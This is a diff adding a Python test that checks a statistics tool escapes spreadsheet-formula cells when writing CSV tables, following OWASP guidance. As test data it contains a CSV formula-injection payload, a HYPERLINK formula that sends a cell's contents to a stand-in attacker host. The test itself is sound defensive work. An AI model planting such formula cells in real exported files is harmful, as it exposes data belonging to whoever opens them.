@@ -966,3 +966,33 @@ def test_the_command_names_a_failed_analysis_and_resumes(tmp_path, monkeypatch, 
     assert json.loads((out / "manifest.json").read_text())["resumed_from_partial_run"] == [
         "savings"
     ]
+
+
+_TABLE = """
+import pandas as pd
+from lacstats.analysis import Analysis
+ANALYSIS = Analysis(name="labels", title="writes a table of text")
+def run(ctx):
+    ctx.table("labels", pd.DataFrame({
+        "label": ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "@SUM(A1)", "Kent", "-0.5"],
+        "value": [1.5, -2.0, 3.0, 4.0],
+    }))
+    ctx.numbers(seed=(ctx.seed, "seed"))
+"""
+
+
+def test_result_tables_are_written_with_safe_cells(tmp_path):
+    # (OWASP's CSV injection guidance) a text cell a spreadsheet would evaluate is written
+    # as text; numbers, number-like text and ordinary text are written as pandas writes them
+    folder = tmp_path / "analyses"
+    folder.mkdir()
+    (folder / "labels.py").write_text(_TABLE)
+    run_all(tmp_path / "out", folder=folder, seed=1, fast=True, jobs=1)
+    written = (tmp_path / "out" / "labels" / "labels.csv").read_text(encoding="utf-8")
+    assert written.splitlines() == [
+        "label,value",
+        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",1.5',
+        "'@SUM(A1),-2.0",
+        "Kent,3.0",
+        "-0.5,4.0",
+    ]
